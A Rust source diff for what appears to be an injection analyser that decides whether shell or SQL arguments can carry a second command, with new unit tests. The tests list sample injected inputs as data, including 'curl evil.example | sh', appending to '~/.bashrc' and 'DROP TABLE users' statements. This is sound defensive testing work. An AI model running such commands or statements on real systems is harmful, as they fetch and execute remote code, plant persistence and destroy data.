@@ -8,6 +8,7 @@ use std::sync::LazyLock;
 
 use super::site::{Holds, Site};
 use crate::analysis::{Analysis, Language, Set};
+use crate::policy::condition::Test;
 
 /// Longer texts are not varied.
 const MAX_VARIED: usize = 120;
@@ -50,10 +51,11 @@ fn ours(expression: &str) -> Language {
 /// A text with another command or statement in it that gets past all that is asked of the argument
 /// of `site`, as the engine confirms. `None` also where the argument holds neither.
 pub(super) fn through(site: &Site<'_>, analysis: &Analysis) -> Option<String> {
-    if site.is_list() {
+    let holds = site.holds();
+    if site.is_list() || !site.required().all(|test| has_room(test, holds)) {
         return None;
     }
-    match site.holds() {
+    match holds {
         Holds::Command => {
             // Where the argument is bound, multiline-hole tells of newlines.
             let printable = site.is_bound().then(Language::printable);
@@ -66,6 +68,19 @@ pub(super) fn through(site: &Site<'_>, analysis: &Analysis) -> Option<String> {
         Holds::Sql => shown(site, analysis, vec![STATEMENTS.clone()], &SQL)
             .or_else(|| cut_off(site, analysis)),
         _ => None,
+    }
+}
+
+/// Whether what meets `test` may have a character that ends a command or a statement. A plain answer
+/// to most careful patterns.
+fn has_room(test: &Test, holds: Holds) -> bool {
+    let ends: &[char] = match holds {
+        Holds::Sql => &[';', '-'],
+        _ => &[';', '|', '&', '`', '(', '>', '\n'],
+    };
+    match test {
+        Test::Regex(pattern) => pattern.shape().may_have(ends),
+        _ => true,
     }
 }
 
@@ -179,4 +194,67 @@ fn cut_off(site: &Site<'_>, analysis: &Analysis) -> Option<String> {
     site.first_through(analysis, alone)
         .is_none()
         .then_some(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_shell_runs_what_stands_outside_of_quotes_and_substitutions_within_double_ones() {
+        for line in [
+            "git log; curl evil.example | sh",
+            "evil.sh |evil",
+            "git log\nevil",
+            r#"echo "$(evil)""#,
+            r#"echo "a`evil`b" 'c'"#,
+            "diff <(evil) x",
+            "cat x >> ~/.bashrc",
+            r#"git commit -m "a"; evil"#,
+        ] {
+            assert!(COMMAND_LINES.contains(line), "{line}");
+        }
+        for line in [
+            "git log",
+            "git log | head -5",
+            "echo '; evil'",
+            "echo '$(evil)'",
+            r#"echo "; evil""#,
+            r"echo \; evil '",
+            "git log > /tmp/evil.txt",
+            "evil",
+        ] {
+            assert!(!COMMAND_LINES.contains(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_database_runs_what_stands_behind_a_semicolon_outside_of_quotes_and_comments() {
+        for statement in [
+            "SELECT 1; DROP TABLE users",
+            "SELECT 1;drop/**/table evil; SELECT 2 FROM tickets",
+            "SELECT 'it''s'; DROP TABLE users; --'",
+            "SELECT 1-1; DROP TABLE users",
+        ] {
+            assert!(STATEMENTS.contains(statement), "{statement}");
+        }
+        for statement in [
+            "SELECT 1",
+            "SELECT '; DROP TABLE users'",
+            "SELECT 1 -- ; DROP TABLE users",
+            "SELECT 1; SELECT 2",
+        ] {
+            assert!(!STATEMENTS.contains(statement), "{statement}");
+        }
+    }
+
+    #[test]
+    fn additions_go_to_the_end_and_to_every_place() {
+        let additions = Additions {
+            first: "1",
+            behind: &["; x"],
+            inside: &["-"],
+        };
+        assert_eq!(additions.to("é "), ["é 1; x", "é -", "é- ", "-é "]);
+    }
 }
